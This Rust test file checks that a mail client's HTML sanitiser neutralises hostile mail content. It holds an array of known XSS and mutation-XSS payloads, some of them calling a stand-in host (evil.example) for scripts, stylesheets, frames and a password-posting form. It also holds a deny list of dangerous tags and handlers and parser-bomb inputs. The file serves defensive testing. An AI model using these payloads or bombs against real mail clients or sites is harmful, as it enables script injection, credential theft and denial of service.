//! HTML of mails: what a sender can't make it do.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    clippy::print_stdout,
    missing_docs
)]
#![allow(clippy::disallowed_methods, reason = "what is tested here is the HTML itself")]

mod support;

use std::fmt::Write;

use mail::part::{Html, Message, Remote};
use mail::ungated;
use support::corpus;

fn message(html: &str) -> Message {
    Message::parse(format!("Content-Type: text/html; charset=utf-8\r\n\r\n{html}").as_bytes()).unwrap()
}

fn shown(html: &str, remote: Remote) -> Html {
    ungated::html(&message(html), remote).unwrap_or_else(|| panic!("not shown: {html}"))
}

/// What may stand in the output, independent of the sanitiser: a small reader of tags.
fn assert_harmless(html: &str, source: &str) {
    let lower = html.to_lowercase();
    for bad in [
        "<script",
        "<style",
        "<iframe",
        "<object",
        "<embed",
        "<form",
        "<input",
        "<button",
        "<textarea",
        "<select",
        "<svg",
        "<math",
        "<base",
        "<meta",
        "<link",
        "<frame",
        "<applet",
        "<template",
        "<noscript",
        "<video",
        "<audio",
        "<source",
        "<!--",
        "<?",
        "<title",
        "<body",
        "<html",
        "<head",
        "<marquee",
        "<plaintext",
        "<xmp",
    ] {
        assert!(!lower.contains(bad), "{bad} in {html:?} from {source:?}");
    }
    for tag in lower.split('<').skip(1) {
        // The serialiser writes attributes in double quotes and escapes these inside.
        let inside = tag.split_once('>').map_or(tag, |(inside, _)| inside);
        let mut rest = inside;
        while let Some((before, after)) = rest.split_once("=\"") {
            let name = before.rsplit(' ').next().unwrap();
            assert!(!name.starts_with("on"), "{name} in {html:?} from {source:?}");
            for bad in [
                "style",
                "srcset",
                "background",
                "id",
                "class",
                "action",
                "data",
                "xlink",
                "ping",
                "srcdoc",
                "target",
            ] {
                assert!(!name.starts_with(bad), "{name} in {html:?} from {source:?}");
            }
            let (value, behind) = after.split_once('"').unwrap();
            if matches!(name, "href" | "src") {
                let is_known =
                    ["http:", "https:", "mailto:", "cid:"].iter().any(|scheme| value.starts_with(scheme));
                assert!(is_known, "{name}={value} in {html:?} from {source:?}");
            }
            rest = behind;
        }
    }
}

/// Attack patterns that are publicly known, each class written anew: scripts and handlers, odd schemes, CSS, SVG, frames,
/// refresh, base, and mutation (markup that another parser pass turns into another tree).
const ATTACKS: [&str; 52] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" oNeRrOr=\"alert(1)\">",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>x",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"//evil.example/\">x</a>",
    "<a href=\"/relative\">x</a>",
    "<a href=\"blob:https://x/1\">x</a>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img src=\"javascript:alert(1)\">",
    "<img srcset=\"https://evil.example/x 1x\" src=\"cid:none\">",
    "<style>@import url(https://evil.example/x.css);</style>x",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<div style=\"background:url(https://evil.example/x)\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">over everything</div>",
    "<div style=\"width: expression(alert(1))\">x</div>",
    "<p class=\"moz-text\" id=\"location\">clobbers</p>",
    "<form id=x name=attributes><input name=action></form>",
    "<form action=https://evil.example/><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href=\"https://evil.example/x.svg#x\"/></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math><maction actiontype=statusline xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x>",
    "<base href=https://evil.example/><a href=x>y</a><img src=z>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<table background=https://evil.example/x><tr><td background=https://evil.example/y>z",
    "<video poster=https://evil.example/x><source src=https://evil.example/y></video>",
    // Mutation.
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<template><script>alert(1)</script></template><xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><img src=x onerror=alert(1)>--><!--!><script>alert(1)</script>",
];

#[test]
fn known_attacks_come_out_harmless() {
    for attack in ATTACKS {
        for source in [
            attack.to_owned(),
            format!("<html><body>{attack}</body></html>"),
            format!("<b>{attack}</b> text"),
        ] {
            for remote in [Remote::Blocked, Remote::Allowed] {
                let html = shown(&source, remote).source;
                assert_harmless(&html, &source);
                // What comes out goes through a browser's parser once more: nothing wakes up there.
                let again = shown(&html, remote).source;
                assert_harmless(&again, &source);
            }
        }
    }
}

#[test]
fn nothing_is_loaded_from_elsewhere_until_asked() {
    let html = "<p>Hello</p><img src=\"https://tracker.example/1.gif\" width=1><img src=\"http://tracker.example/2\">\
                <img src=\"ftp://tracker.example/3\"><img src=\"//tracker.example/4\"><img src=\"data:image/png;base64,AAAA\">";
    let blocked = shown(html, Remote::Blocked);
    assert!(!blocked.source.contains("tracker") && !blocked.source.contains("data:"));
    assert_eq!(blocked.blocked, 2);
    let allowed = shown(html, Remote::Allowed);
    assert!(
        allowed.source.contains("https://tracker.example/1.gif")
            && allowed.source.contains("http://tracker.example/2")
    );
    assert!(
        !allowed.source.contains("/3") && !allowed.source.contains("/4") && !allowed.source.contains("data:")
    );
    assert_eq!(allowed.blocked, 0);
}

#[test]
fn pictures_come_from_the_same_message_only() {
    let mail = "Content-Type: multipart/related; boundary=r\r\n\r\n\
        --r\r\nContent-Type: text/html\r\n\r\n\
        <img src=\"cid:logo@x\"><img src=\"CID:a%2Bb@x\"><img src=\"cid:vector@x\"><img src=\"cid:page@x\"><img src=\"cid:inner@x\"><img src=\"cid:none@x\"><a href=\"cid:logo@x\">y</a>\r\n\
        --r\r\nContent-Type: image/png\r\nContent-ID: <logo@x>\r\nContent-Transfer-Encoding: base64\r\n\r\niVBO\r\n\
        --r\r\nContent-Type: image/gif\r\nContent-ID: <a+b@x>\r\n\r\nGIF\r\n\
        --r\r\nContent-Type: image/svg+xml\r\nContent-ID: <vector@x>\r\n\r\n<svg onload=alert(1)>\r\n\
        --r\r\nContent-Type: text/html\r\nContent-ID: <page@x>\r\n\r\n<script>\r\n\
        --r\r\nContent-Type: message/rfc822\r\n\r\nContent-Type: image/png\r\nContent-ID: <inner@x>\r\n\r\nPNG\r\n--r--\r\n";
    let message = Message::parse(mail.as_bytes()).unwrap();
    let html = ungated::html(&message, Remote::Allowed).unwrap().source;
    assert!(html.contains("cid:logo@x") && html.contains("CID:a%2Bb@x"), "{html}");
    for other in ["vector", "page", "inner", "none"] {
        assert!(!html.contains(other), "{other} in {html}");
        assert!(ungated::inline_picture(&message, &format!("{other}@x")).is_none());
    }
    assert_eq!(html.matches("cid:logo").count(), 1, "no link leads to a part");
    assert_eq!(ungated::inline_picture(&message, "logo@x").map(|part| part.path.as_str()), Some("2"));
    assert_eq!(ungated::inline_picture(&message, "a+b@x").map(|part| part.path.as_str()), Some("3"));
}

#[test]
fn what_a_mail_looks_like_stays_readable() {
    let html = "<h1>Offer</h1><table border=1 bgcolor=#eee><tr><td colspan=2><b>Price</b></td><td>5&nbsp;€</td></tr></table>\
                <ul><li>one<li>two</ul><blockquote>quoted</blockquote><a href=\"https://example.org/?a=1&amp;b=2\">see</a> \
                <a href=\"mailto:bob@example.org\">write</a> 你好 <font color=red>red</font>";
    let out = shown(html, Remote::Blocked).source;
    for kept in [
        "<h1>Offer</h1>",
        "<td colspan=\"2\"><b>Price</b></td>",
        "<li>one</li><li>two</li>",
        "<blockquote>quoted</blockquote>",
        "href=\"https://example.org/?a=1&amp;b=2\"",
        "href=\"mailto:bob@example.org\"",
        "rel=\"noopener noreferrer nofollow\"",
        "你好",
        "<font color=\"red\">red</font>",
    ] {
        assert!(out.contains(kept), "{kept} is gone from {out}");
    }
}

#[test]
fn links_that_name_another_place_are_named() {
    let html = "<a href=\"https://evil.example/x\"><b>https://bank</b>.example/login</a> <a href=\"https://bank.example/\">bank.example</a>\
                <a href=\"https://evil.example/\">here</a>";
    let deceptive = shown(html, Remote::Blocked).deceptive;
    assert_eq!(deceptive.len(), 1);
    assert_eq!(
        (deceptive[0].shown.as_str(), deceptive[0].target.as_str()),
        ("https://bank.example/login", "https://evil.example/x")
    );
}

#[test]
fn a_legacy_display_element_is_left_out_of_html() {
    let body = "<html><body><div class=\"header-protection-legacy-display\"><pre>Subject: x</pre><div>From: a@x.example</div></div><div class=other>The text</div></body></html>";
    let head = "Subject: x\r\nFrom: a@x.example\r\nContent-Type: text/html; hp-legacy-display=1; hp=cipher";
    let mut message = Message::parse(format!("{head}\r\n\r\n{body}").as_bytes()).unwrap();
    message.mark_decrypted();
    assert_eq!(ungated::html(&message, Remote::Blocked).unwrap().source, "<div>The text</div>");
    // Elsewhere the class means nothing: it would hide what other programs show.
    let html = shown(body, Remote::Blocked).source;
    assert!(html.contains("Subject: x") && html.contains("From: a@x.example"));
}

/// The text is that of the tree that browsers build.
#[test]
fn text_of_html_is_what_a_browser_shows() {
    for (html, text) in [
        ("<!--> shown <!-- hidden -->", "shown"),
        ("<p>a<!-- x --!> b", "a b"),
        ("<title>no</title>yes", "yes"),
        ("<textarea>kept</textarea>", "kept"),
        ("<style>no<p>no</style><p>yes", "yes"),
        ("<template>no</template>yes", "yes"),
        ("&notin; &amp;lt; &#0; &CounterClockwiseContourIntegral;", "∉ &lt; \u{fffd} ∳"),
        ("<table>moved<tr><td>cell</table>", "moved\ncell"),
        ("<div style=\"display:none\">hidden by style</div>seen", "hidden by style\nseen"),
        ("<p title=\"a>b\">x</p>", "x"),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ("one<br>two<br/>three", "one\ntwo\nthree"),
        ("<table><td>a</td><td>b</td></table>", "a b"),
        ("a<\u{1b}b\u{7}c", "a< b c"),
    ] {
        let found = message(html).body_text().unwrap();
        let lines: Vec<&str> = found.lines().map(str::trim_end).collect();
        let expected: Vec<&str> = text.lines().collect();
        if html.starts_with("<pre>") || html.starts_with("<table><td>") {
            assert_eq!(
                found.split_whitespace().collect::<Vec<_>>(),
                text.split_whitespace().collect::<Vec<_>>(),
                "{html}"
            );
        } else {
            assert_eq!(lines, expected, "{html}");
        }
    }
}

fn nested(open: &str, count: usize, inside: &str) -> String {
    format!("{}{inside}", open.repeat(count))
}

/// Each of these makes a parser of HTML work in the square of the input, or nests deeper than a stack. They are not shown
/// as HTML, and their text is there. Nothing measures the time: the square of these inputs would take hours.
#[test]
fn bombs_are_shown_as_text_and_take_linear_time() {
    let fonts: String = (0..20_000).fold(String::new(), |mut all, n| {
        let _ = write!(all, "<font color=c{n}>");
        all
    });
    let closed: String = (0..20_000).fold(String::new(), |mut all, n| {
        let _ = write!(all, "<p><font size=s{n}></p>");
        all
    });
    let bombs = [
        nested("<div>", 400_000, "the text"),
        nested("<table><tr><td>", 100_000, "the text"),
        nested("<table>", 200_000, "the text"),
        nested("<b>", 300_000, "the text"),
        nested("<svg>", 200_000, "<text>the text</text>"),
        nested("<ul><li>", 100_000, "the text"),
        format!("{fonts}{}the text", "<p>".repeat(20_000)),
        format!("{closed}the text"),
        format!("<table>{}the text", "<b>x".repeat(100_000)),
        format!("{}the text", "<div><table></div></table>".repeat(40_000)),
        format!("{}the text", "<a href=x>".repeat(200_000)),
        format!("{}the text", "<p>x</p>".repeat(100_000)),
        format!("{}the text{}", "<div><b>".repeat(60_000), "</div></b>".repeat(60_000)),
        format!("the text{}", "<!--".repeat(300_000)),
        format!("the text<a {}>", "x=\"1\" ".repeat(150_000)),
        format!("the text{}", "&".repeat(1_000_000)),
        format!("the text{}", "<".repeat(1_000_000)),
        format!("the text{}", "</x>".repeat(250_000)),
    ];
    for (number, bomb) in bombs.iter().enumerate() {
        let message = message(bomb);
        let text = message.body_text().unwrap();
        assert!(text.contains("the text"), "{number}");
        let html = ungated::html(&message, Remote::Blocked);
        if let Some(html) = &html {
            assert_harmless(&html.source, "a bomb");
            assert!(
                html.source.len() <= bomb.len() * 20,
                "{number}: {} from {}",
                html.source.len(),
                bomb.len()
            );
        }
        println!("{number}: shown as HTML: {}", html.is_some());
    }
}

/// Every HTML mail of the corpora comes out harmless.
#[test]
fn html_of_the_corpora_comes_out_harmless() {
    let mut shown = 0;
    for name in ["mail-parser", "nodemailer-mailparser", "ruby-mail", "cpython-email"] {
        let Some(folder) = corpus(name) else { continue };
        let mut folders = vec![folder];
        while let Some(folder) = folders.pop() {
            for entry in std::fs::read_dir(folder).unwrap() {
                let path = entry.unwrap().path();
                if path.is_dir() {
                    folders.push(path);
                    continue;
                }
                let Ok(message) = Message::parse(&std::fs::read(&path).unwrap()) else { continue };
                if let Some(html) = ungated::html(&message, Remote::Blocked) {
                    assert_harmless(&html.source, &path.display().to_string());
                    shown += 1;
                }
            }
        }
    }
    println!("{shown} mails");
}
